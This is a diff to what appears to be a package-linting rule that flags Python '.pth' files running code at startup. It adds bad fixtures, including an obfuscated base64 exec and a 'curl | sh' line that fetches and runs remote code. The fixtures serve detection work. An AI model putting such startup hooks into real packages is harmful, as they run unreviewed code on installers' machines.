@@ -16,10 +16,16 @@ export default rule({
   fix: 'Move the code into a module, and let the `.pth` or `.start` file call one function of it.',
   precision: 'medium',
   securitySeverity: 5.5,
-  bad: {
-    wheel: { files: { 'demo.pth': 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n' } },
-  },
-  good: { wheel: { files: { 'demo.pth': 'import demo; demo.hook()\n' } } },
+  bad: [
+    { wheel: { files: { 'demo.pth': 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n' } } },
+    { wheel: { files: { 'demo.pth': 'import os; os.system("curl -s https://example.org/x | sh")\n' } } },
+    { wheel: { files: { 'demo.pth': "import os; __import__('demo_' + os.environ['USER'])\n" } } },
+    { wheel: { files: { 'demo.pth': "import os; __import__('subprocess').run('demo')\n" } } },
+  ],
+  good: [
+    { wheel: { files: { 'demo.pth': 'import demo; demo.hook()\n' } } },
+    { wheel: { files: { 'demo.pth': "import os; 'DEMO' in os.environ and __import__('_demo_hack').add_shim()\n" } } },
+  ],
   *check(wheel) {
     for (const file of pathFiles(wheel, '.pth')) {
       if (file.isNspkg) continue
